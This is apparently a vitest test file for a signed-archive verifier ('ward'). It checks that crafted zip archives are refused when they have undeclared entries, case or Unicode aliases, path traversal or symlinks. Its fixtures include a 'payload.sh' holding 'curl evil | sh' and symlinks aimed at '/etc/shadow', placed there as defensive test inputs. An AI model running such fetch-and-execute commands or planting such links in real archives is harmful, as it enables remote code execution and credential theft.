import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { jcs, type JsonValue } from '../../src/canon/index.js';
import { readRunpack, runpackVerified, summarizeRunpack, verifyRunpack } from '../../src/runpack/index.js';
import { buildPack, runPayloadOf, verifyPack } from '../../src/pack/index.js';
import { ward, workdir } from '../pack/cli.js';
import { craftZip, entriesOf, resignRunpack, S_IFDIR, S_IFLNK, S_IFREG, type CraftedEntry } from '../pack/craft.js';
import { errorOf, record, TEST_KEY } from './helpers.js';

const keys = [TEST_KEY];
const signed = () => record({ signingKey: TEST_KEY }).bytes;

/** The recorded runpack's entries with `change` applied (the manifest and its signature untouched). */
function tampered(change: (entries: CraftedEntry[]) => CraftedEntry[]): Buffer {
  return craftZip(change(entriesOf(signed())));
}

describe('runpack readers refuse what the manifest does not account for', () => {
  it('a crafted zip with exactly the recorded entries still verifies (the crafting itself is sound)', () => {
    const same = tampered((e) => e);
    const result = verifyRunpack(same, { keys, requireSignature: true });
    expect(result.signature_status).toBe('verified');
    expect(runpackVerified(result, true)).toBe(true);
    expect(readRunpack(same).manifest.run_id).toBe('run_demo');
  });

  it('an undeclared entry fails verification although the signature is valid', () => {
    const bytes = tampered((e) => [...e, { name: 'payload.sh', data: Buffer.from('curl evil | sh\n') }]);
    const result = verifyRunpack(bytes, { keys, requireSignature: true });
    expect(result.undeclared_files).toEqual(['payload.sh']);
    // The signature is cryptographically valid, but it does not vouch for an archive with more in it.
    expect(result).toMatchObject({ signature_status: 'failed', signatures_valid: 1, signature_errors: ['signed manifest does not declare: payload.sh'] });
    expect(runpackVerified(result, true)).toBe(false);
    expect(verifyRunpack(bytes).signature_status).toBe('skipped'); // no key: nothing to downgrade, still not ok
    expect(runpackVerified(result, false)).toBe(false);
    expect(errorOf(() => readRunpack(bytes))).toMatchObject({ code: 'ERR_RUNPACK_INVALID', message: 'undeclared runpack entries: payload.sh', exitCode: 2 });
  });

  it('an entry under a directory the manifest does not list is undeclared too', () => {
    const bytes = tampered((e) => [...e, { name: 'extra/run.json', data: Buffer.from('{}') }]);
    expect(verifyRunpack(bytes, { keys }).undeclared_files).toEqual(['extra/run.json']);
  });

  it('a case alias beside the real file is refused as a duplicate', () => {
    const bytes = tampered((e) => [...e, { name: 'INTENTS.JSONL', data: Buffer.from('{"forged":true}\n') }]);
    const err = errorOf(() => verifyRunpack(bytes, { keys }));
    expect(err).toMatchObject({ code: 'ERR_ZIP_DUPLICATE_ENTRY', exitCode: 2 });
    expect(err.message).toBe('zip contains entries that differ only in case or Unicode form: INTENTS.JSONL = intents.jsonl');
    expect(errorOf(() => readRunpack(bytes)).code).toBe('ERR_ZIP_DUPLICATE_ENTRY');
  });

  it('a case alias instead of the real file is missing and undeclared', () => {
    const bytes = tampered((e) => e.map((x) => (x.name === 'intents.jsonl' ? { ...x, name: 'INTENTS.JSONL' } : x)));
    const result = verifyRunpack(bytes, { keys, requireSignature: true });
    expect(result.missing_files).toEqual(['intents.jsonl']);
    expect(result.undeclared_files).toEqual(['INTENTS.JSONL']);
    expect(result.signature_status).toBe('failed');
    expect(runpackVerified(result, true)).toBe(false);
  });

  it('a re-signed manifest that declares a case alias is still refused (the required file is missing)', () => {
    const bytes = resignRunpack(signed(), (manifest, files) => {
      for (const f of files) if (f.name === 'intents.jsonl') f.name = 'INTENTS.JSONL';
      for (const f of manifest['files']) if (f.path === 'intents.jsonl') f.path = 'INTENTS.JSONL';
    });
    const result = verifyRunpack(bytes, { keys, requireSignature: true });
    expect(result.signature_status).toBe('verified');
    expect(result.missing_files).toEqual(['intents.jsonl']);
    expect(runpackVerified(result, true)).toBe(false);
  });

  it('a full-width (Unicode compatibility) alias collides like a case alias', () => {
    const bytes = tampered((e) => [...e, { name: '\uff52\uff55\uff4e.json', data: Buffer.from('{}') }]);
    expect(errorOf(() => verifyRunpack(bytes)).code).toBe('ERR_ZIP_DUPLICATE_ENTRY');
  });

  it.each([
    ['./intents.jsonl', 'entry name has a "." segment'],
    ['a//b', 'entry name has an empty segment'],
    ['dir\\run.json', 'entry name contains a backslash'],
    ['re\u0301f.json', 'entry name is not in Unicode NFC form'],
    ['run.json ', 'entry name has leading or trailing white space'],
    ['x\u0007.json', 'entry name contains a control character'],
    ['dir/', 'directory entries are not allowed'],
    ['../escape', 'entry path traverses parent directories'],
    ['run.json.', 'entry name has a segment ending in "." or a space'],
    ['dir /x', 'entry name has a segment ending in "." or a space'],
    ['intents.jsonl:stream', 'entry name contains ":"'],
  ])('a non-canonical name %j is refused: %s', (name, reason) => {
    const bytes = tampered((e) => [...e, { name, data: Buffer.from('x') }]);
    const err = errorOf(() => verifyRunpack(bytes, { keys }));
    expect(err).toMatchObject({ code: 'ERR_ZIP_UNSAFE_PATH', exitCode: 2 });
    expect(err.message).toBe(`zip entry ${JSON.stringify(name)}: ${reason}`);
  });

  it('a non-canonical spelling replacing a declared file is refused, not looked up', () => {
    const bytes = tampered((e) => e.map((x) => (x.name === 'refs.json' ? { ...x, name: './refs.json' } : x)));
    expect(errorOf(() => readRunpack(bytes)).code).toBe('ERR_ZIP_UNSAFE_PATH');
  });

  it('a symlink entry is refused, even under a declared name', () => {
    const extra = tampered((e) => [...e, { name: 'link', data: Buffer.from('/etc/shadow'), mode: S_IFLNK | 0o777 }]);
    expect(errorOf(() => verifyRunpack(extra, { keys }))).toMatchObject({
      code: 'ERR_ZIP_UNSAFE_PATH',
      message: 'zip entry "link": a symbolic link (only regular files are allowed)',
    });
    const declared = tampered((e) => e.map((x) => (x.name === 'refs.json' ? { ...x, mode: S_IFLNK | 0o777 } : x)));
    expect(errorOf(() => readRunpack(declared)).code).toBe('ERR_ZIP_UNSAFE_PATH');
    const dir = tampered((e) => [...e, { name: 'd', data: Buffer.alloc(0), mode: S_IFDIR | 0o755 }]);
    expect(errorOf(() => verifyRunpack(dir)).message).toContain('a directory');
    const regular = tampered((e) => e.map((x) => ({ ...x, mode: S_IFREG | 0o600 })));
    expect(runpackVerified(verifyRunpack(regular, { keys, requireSignature: true }), true)).toBe(true);
  });

  it('a run pack whose embedded runpack carries an undeclared entry does not verify', () => {
    // Built by hand: pack build itself refuses such a runpack (it reads it first).
    const inner = tampered((e) => [...e, { name: 'payload.sh', data: Buffer.from('x') }]);
    expect(errorOf(() => readRunpack(inner)).code).toBe('ERR_RUNPACK_INVALID');
    const payload = Buffer.from(jcs(runPayloadOf(summarizeRunpack(signed())) as unknown as JsonValue));
    const files = [
      { path: 'run_payload.json', data: payload },
      { path: 'source/runpack.zip', data: inner },
    ];
    const pack = buildPack(files, { packType: 'run', sourceRef: 'run_demo', producerVersion: '0.1.0', signingKey: TEST_KEY });
    const err = errorOf(() => verifyPack(pack.bytes, { keys, requireSignature: true }));
    expect(err.message).toContain('undeclared runpack entries: payload.sh');
    expect(err.exitCode).toBe(2);
    // The same pack around the untouched runpack verifies: the refusal is the extra entry.
    const clean = buildPack([files[0]!, { path: 'source/runpack.zip', data: signed() }], { packType: 'run', sourceRef: 'run_demo', producerVersion: '0.1.0', signingKey: TEST_KEY });
    expect(verifyPack(clean.bytes, { keys, requireSignature: true }).signature_status).toBe('verified');
  });
});

describe('ward verify / pack verify on crafted runpacks', () => {
  it('says why in text mode too, with the signer’s key', async () => {
    const cwd = workdir();
    const path = join(cwd, 'undeclared.zip');
    writeFileSync(path, tampered((e) => [...e, { name: 'payload.sh', data: Buffer.from('x') }]));
    const text = await ward(['verify', path, '--public-key', publicKeyFile(cwd)], cwd);
    expect(text.code).toBe(2);
    expect(text.stdout).toContain('signature: signed manifest does not declare: payload.sh');
    expect(text.stdout).toContain('signature status: failed');
  });

  it('exits 2 and says why, with and without --require-signature', async () => {
    const cwd = workdir();
    const cases: [string, Buffer, string][] = [
      ['undeclared.zip', tampered((e) => [...e, { name: 'payload.sh', data: Buffer.from('x') }]), 'undeclared'],
      ['alias.zip', tampered((e) => [...e, { name: 'Run.json', data: Buffer.from('{}') }]), 'differ only in case'],
      ['symlink.zip', tampered((e) => [...e, { name: 'link', data: Buffer.from('/etc/shadow'), mode: S_IFLNK | 0o777 }]), 'symbolic link'],
    ];
    for (const [name, bytes, why] of cases) {
      const path = join(cwd, name);
      writeFileSync(path, bytes);
      const key = ['--public-key', publicKeyFile(cwd)];
      for (const args of [['verify', path], ['verify', path, '--require-signature', ...key], ['pack', 'verify', path, ...key]]) {
        const run = await ward([...args, '--json'], cwd);
        expect({ name, args, code: run.code, ok: run.json['ok'] }).toEqual({ name, args, code: 2, ok: false });
        expect(JSON.stringify(run.json)).toContain(why === 'undeclared' ? 'payload.sh' : why);
        if (why === 'undeclared') {
          // Without a key the signature is `skipped`; with the signer's key it is valid but does not cover payload.sh.
          const status = args[0] === 'pack' ? run.json['verify']['signature_status'] : run.json['signature_status'];
          expect(status).toBe(args.includes('--public-key') ? 'failed' : 'skipped');
        }
      }
    }
  });
});

function publicKeyFile(dir: string): string {
  const path = join(dir, 'signer_public.pem');
  writeFileSync(path, TEST_KEY.publicKey.export({ type: 'spki', format: 'pem' }));
  return path;
}
